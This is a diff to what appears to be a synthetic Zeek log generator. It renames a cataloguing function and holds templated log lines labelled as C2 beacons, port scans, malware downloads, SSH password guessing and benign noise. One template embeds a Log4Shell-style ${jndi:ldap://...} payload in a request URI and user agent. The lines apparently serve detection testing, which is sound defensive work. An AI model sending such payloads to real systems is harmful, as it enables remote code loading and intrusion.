@@ -1,9 +1,9 @@
 """Zeek: connections and names, requests and certificates, logins and file shares, and its own notices."""
 
-from generator.families.network.product_story import catalogue
+from generator.families.network.product_story import catalogue_in_parts
 from generator.families.sensors.zeek_forms import FORMS
 
-catalogue("sensors/zeek-traffic", FORMS, r"""
+catalogue_in_parts("sensors/zeek-traffic", FORMS, r"""
 C2@T1571 conn {lan} {wan}:<<4444|1337|8443|50050>> | proto=tcp ; duration={big}.{n} ; orig_bytes={big} ; resp_bytes={id} ; conn_state=S1 ; history=ShADad ; local_orig=true ; orig_pkts={big} ; resp_pkts={big}
 PO# conn {lan} 10.0.{n}.{n2}:<<445|3389|22|5985>> | proto=tcp ; conn_state=<<S0|REJ>> ; history=S ; local_orig=true ; local_resp=true ; orig_pkts=1 ; resp_pkts=0
 PO# conn {wan} {lan}:<<21|22|23|80|110|139|443|445|1433|3306|3389|5432|5900|8080|9200>> | proto=tcp ; conn_state=<<S0|REJ|RSTO>> ; history=S ; orig_pkts=1
@@ -30,7 +30,7 @@ NS conn {lan} {wan}:<<5228|8883|5222|3478|1935|8443>> | proto=tcp ; service=ssl 
 NS weird {any} {any2}:443 | name=<<data_before_established|possible_split_routing|bad_TCP_checksum|truncated_header|dns_unmatched_reply|above_hole_data_without_any_acks|unknown_protocol>> ; notice=false ; peer=zeek
 """)
 
-catalogue("sensors/zeek-requests", FORMS, r"""
+catalogue_in_parts("sensors/zeek-requests", FORMS, r"""
 C2 http {lan} {wan}:80 | trans_depth=1 ; method=POST ; host={dga} ; uri=/<<gate.php|submit.php?id={id}|panel/{word}.php|api/v1/beacon>> ; user_agent=<<Mozilla/4.0 (compatible; MSIE 8.0)|{word}|Mozilla/5.0 (Windows NT 6.1) {word}>> ; request_body_len={big} ; response_body_len={n} ; status_code=200 ; status_msg=OK
 MW http {lan} {wan}:80 | trans_depth=1 ; method=GET ; host={wan} ; uri=/{word}.<<exe|ps1|hta|bin>> ; user_agent=<<Microsoft BITS/7.8|WindowsPowerShell/5.1|certutil|curl/8.5.0>> ; response_body_len={big} ; status_code=200 ; resp_mime_types=application/x-dosexec
 RX http {wan} {lan}:80 | trans_depth=1 ; method=GET ; host={wan2} ; uri=/?q=${jndi:ldap://{wan}/{word}} ; user_agent=${jndi:ldap://{wan}:1389/{word}} ; status_code=200 ; status_msg=OK
@@ -54,7 +54,7 @@ BA http {lan} {wan}:80 | trans_depth=1 ; method=PUT ; host={site} ; uri=/{file}.
 NS notice {lan} {wan}:443 | proto=tcp ; note=<<SSL::Invalid_Server_Cert|SSL::Certificate_Expired|CaptureLoss::Too_Much_Loss|PacketFilter::Dropped_Packets|Weird::Activity>> ; msg=<<SSL certificate validation failed with (self signed certificate)|Certificate CN={ext} expired at {date}|The capture loss script detected an estimated loss rate above {few}.{n}%>> ; actions=Notice::ACTION_LOG
 """)
 
-catalogue("sensors/zeek-inside", FORMS, r"""
+catalogue_in_parts("sensors/zeek-inside", FORMS, r"""
 SB# ssh {wan} {lan}:22 | version=2 ; auth_success=false ; auth_attempts={few} ; direction=INBOUND ; client=SSH-2.0-<<libssh_0.9.6|Go|paramiko_2.12.0>> ; server=SSH-2.0-OpenSSH_9.2p1
 BS notice {wan} {lan}:22 | proto=tcp ; note=SSH::Password_Guessing ; msg={wan} appears to be guessing SSH passwords (seen in {many} connections). ; sub=Sampled servers: {lan} ; src={wan} ; actions=Notice::ACTION_LOG
 + notice {wan} {lan}:22 | proto=tcp ; note=SSH::Login_By_Password_Guesser ; msg=Significant login of a host identified as a password guesser. ; src={wan} ; dst={lan}
